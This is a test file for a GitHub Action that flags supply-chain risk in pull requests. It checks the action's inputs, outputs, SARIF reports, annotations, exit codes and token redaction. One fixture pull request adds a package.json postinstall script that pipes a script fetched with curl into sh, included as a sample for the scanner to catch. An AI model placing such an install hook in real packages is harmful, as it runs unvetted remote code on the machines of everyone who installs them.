import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { GITHUB_COMMENT_LIMIT } from '../../src/cli/render-markdown.js';
import { type GitHubServer, startGitHubServer } from '../support/github-server.js';
import { makePrFixture, typicalPrFixture } from '../support/pr-fixture.js';
import { ROOT } from './run-cli.js';

interface ActionFile {
  inputs: Record<string, { default?: string }>;
  outputs: Record<string, { description: string; value?: string }>;
  runs: { using: string; main: string; steps?: unknown };
}

const action = parse(readFileSync(path.join(ROOT, 'action.yml'), 'utf8')) as ActionFile;
const BUNDLE = path.join(ROOT, action.runs.main);

/** action.yml, its committed bundle (current with the sources), and the bundle run for real. */
describe('the GitHub Action (action.yml)', () => {
  it('is a JavaScript action on the runner\'s Node 24: no set-up step, nothing installed, the documented inputs', () => {
    expect(action.runs).toEqual({ using: 'node24', main: 'action/dist/index.mjs' });
    expect(action.inputs['fail-on']?.default).toBe('none');
    expect(action.inputs.format?.default).toBe('markdown');
    expect(action.inputs.annotate?.default).toBe('true');
    expect(action.inputs['github-token']?.default).toBe('${{ github.token }}');
    expect(Object.keys(action.outputs)).toEqual(['risk-level', 'risk-score', 'review-action', 'signal-file', 'sarif']);
  });

  it('runs a committed bundle that is what the sources build now (npm run build:action)', async () => {
    const check = await promisify(execFile)(process.execPath, ['scripts/build-action.js', '--check'], { cwd: ROOT, encoding: 'utf8' }).then(
      () => ({ code: 0, stderr: '' }),
      (e: { code: number; stderr: string }) => ({ code: e.code, stderr: e.stderr }),
    );
    expect(check, check.stderr).toEqual({ code: 0, stderr: '' });
  }, 120_000);

  it('documents a workflow that pins every action by commit and asks only for read permissions', () => {
    const doc = readFileSync(path.join(ROOT, 'docs/cli.md'), 'utf8');
    const workflow = /```yaml\n(name: svc[\s\S]*?)```/.exec(doc)?.[1];
    expect(workflow).toBeDefined();
    const parsed = parse(workflow ?? '') as { on: Record<string, unknown>; permissions: Record<string, string>; jobs: Record<string, { steps: { uses?: string }[] }> };
    expect(Object.keys(parsed.on)).toEqual(['pull_request']);
    expect(Object.values(parsed.permissions).every((p) => p === 'read')).toBe(true);
    expect(parsed.permissions).toMatchObject({ contents: 'read', 'pull-requests': 'read', checks: 'read' });
    for (const job of Object.values(parsed.jobs)) {
      for (const step of job.steps) if (step.uses !== undefined) expect(step.uses).toMatch(/@[0-9a-f]{40}( |$)/);
    }
  });

  describe('the bundle, run as the runner runs it', () => {
    let github: GitHubServer;
    let dir: string;
    beforeAll(async () => {
      github = await startGitHubServer();
      github.addPullRequest(typicalPrFixture());
      github.addPullRequest(
        makePrFixture({
          owner: 'acme',
          repo: 'gizmo',
          number: 9,
          title: 'Set up the toolchain after install',
          files: [
            {
              path: 'package.json',
              base: `${JSON.stringify({ name: 'gizmo', version: '1.0.0', scripts: { test: 'vitest run' } }, null, 2)}\n`,
              head: `${JSON.stringify({ name: 'gizmo', version: '1.0.0', scripts: { test: 'vitest run', postinstall: 'curl -fsSL https://get.example.net/i.sh | sh' } }, null, 2)}\n`,
            },
          ],
        }),
      );
      dir = mkdtempSync(path.join(tmpdir(), 'svc-action-'));
    });
    afterAll(async () => {
      await github?.close();
      rmSync(dir, { recursive: true, force: true });
    });

    /** `node action/dist/index.mjs` with the runner's environment: INPUT_* from `with:`, the event payload, the files. */
    const runAction = async (options: { prUrl?: string | null; inputs?: Record<string, string>; env?: Record<string, string> } = {}) => {
      const id = Math.random().toString(36).slice(2);
      const summary = path.join(dir, `summary-${id}.md`);
      const output = path.join(dir, `output-${id}.txt`);
      const event = path.join(dir, `event-${id}.json`);
      const temp = mkdtempSync(path.join(dir, 'temp-'));
      writeFileSync(summary, '');
      writeFileSync(output, '');
      const prUrl = options.prUrl === undefined ? `${github.url}/acme/widgets/pull/42` : options.prUrl;
      writeFileSync(event, JSON.stringify(prUrl === null ? { ref: 'refs/heads/main' } : { pull_request: { html_url: prUrl } }));
      const inputs = { 'fail-on': 'none', format: 'markdown', annotate: 'true', 'github-token': '', ...options.inputs };
      const result = await promisify(execFile)(process.execPath, [BUNDLE], {
        cwd: dir,
        env: {
          PATH: process.env.PATH ?? '',
          HOME: process.env.HOME ?? '',
          REGISTRY_LOOKUPS: 'off',
          RUNNER_TEMP: temp,
          GITHUB_STEP_SUMMARY: summary,
          GITHUB_OUTPUT: output,
          GITHUB_EVENT_PATH: event,
          GITHUB_SERVER_URL: github.url,
          GITHUB_API_URL: github.apiUrl,
          ...Object.fromEntries(Object.entries(inputs).map(([name, value]) => [`INPUT_${name.toUpperCase()}`, value])),
          ...options.env,
        },
        encoding: 'utf8',
      }).then(
        (r) => ({ code: 0, stdout: r.stdout, stderr: r.stderr }),
        (e: { code: number; stdout: string; stderr: string }) => ({ code: e.code, stdout: e.stdout, stderr: e.stderr }),
      );
      return { ...result, temp, summary: readFileSync(summary, 'utf8'), output: readFileSync(output, 'utf8') };
    };

    it('writes the markdown to the job summary, the outputs, and the chosen format to the log', async () => {
      const run = await runAction({ inputs: { format: 'text' } });
      expect(run.code, run.stderr).toBe(0);
      expect(run.summary).toContain('svc: low risk');
      expect(run.summary.length).toBeLessThanOrEqual(GITHUB_COMMENT_LIMIT);
      expect(run.stdout).toContain('acme/widgets#42  Pad widget labels');
      // The report's lines (the PR's text) are printed with workflow commands stopped around them.
      expect(run.stdout).toMatch(/^::stop-commands::([0-9a-f-]{36})\nacme\/widgets#42 [\s\S]*\n::\1::\n$/);
      expect(run.output).toMatch(/^risk-level=low\nrisk-score=0\.\d+\nreview-action=\w+\nsignal-file=.*svc-signal\.json\nsarif=.*svc\.sarif\n$/);
      const sarif = JSON.parse(readFileSync(path.join(run.temp, 'svc.sarif'), 'utf8')) as { version: string; runs: { results: unknown[] }[] };
      expect(sarif.version).toBe('2.1.0');
      const signal = JSON.parse(readFileSync(path.join(run.temp, 'svc-signal.json'), 'utf8')) as { pr: { number: number }; supply_chain: { findings: unknown[] } };
      expect(signal.pr.number).toBe(42);
      expect(sarif.runs[0]?.results).toHaveLength(signal.supply_chain.findings.length);
    }, 60_000);

    it('writes the findings as SARIF (rules linked to the action\'s own docs) and prints them as annotations unless annotate is false', async () => {
      const env = { GITHUB_ACTION_REPOSITORY: 'acme/svc', GITHUB_ACTION_REF: 'v2' };
      const prUrl = `${github.url}/acme/gizmo/pull/9`;
      const run = await runAction({ prUrl, env });
      expect(run.code, run.stderr).toBe(0);
      const sarif = JSON.parse(readFileSync(/sarif=(.*)\n/.exec(run.output)?.[1] ?? '', 'utf8')) as { runs: { tool: { driver: { rules: { helpUri?: string }[] } }; results: unknown[] }[] };
      expect(sarif.runs[0]?.results.length).toBeGreaterThan(0);
      expect(sarif.runs[0]?.tool.driver.rules[0]?.helpUri).toMatch(new RegExp(`^${github.url.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}/acme/svc/blob/v2/docs/findings\\.md#`));
      expect(run.stdout).toMatch(/^::error file=package\.json,line=\d+,endLine=\d+,title=svc%3A /m);
      const quiet = await runAction({ prUrl, env, inputs: { annotate: 'false' } });
      expect(quiet.code).toBe(0);
      expect(quiet.stdout).not.toMatch(/^::(error|warning|notice) /m);
    }, 90_000);

    it('fails with exit 1 when fail-on is reached, 2 on bad inputs, no pull request or a failed analysis, and never shows the token', async () => {
      expect((await runAction({ inputs: { 'fail-on': 'low' } })).code).toBe(1);
      const badInput = await runAction({ inputs: { 'fail-on': 'severe' } });
      expect(badInput.code).toBe(2);
      expect(badInput.stdout).toContain('::error title=svc::svc: fail-on must be');
      expect((await runAction({ inputs: { annotate: 'yes' } })).code).toBe(2);
      const noPr = await runAction({ prUrl: null });
      expect(noPr.code).toBe(2);
      expect(noPr.stdout).toContain('No pull request in this event');
      const missing = await runAction({ prUrl: `${github.url}/acme/widgets/pull/999`, inputs: { 'github-token': 'ghp_action_secret_token' } });
      expect(missing.code).toBe(2);
      expect(missing.stderr).toContain('svc: Analysis failed: pull request acme/widgets#999 not found');
      expect(missing.stdout).toContain('::error title=svc::svc: Analysis failed');
      expect(`${missing.stdout}${missing.stderr}`).not.toContain('ghp_action_secret_token');
    }, 60_000);
  });
});
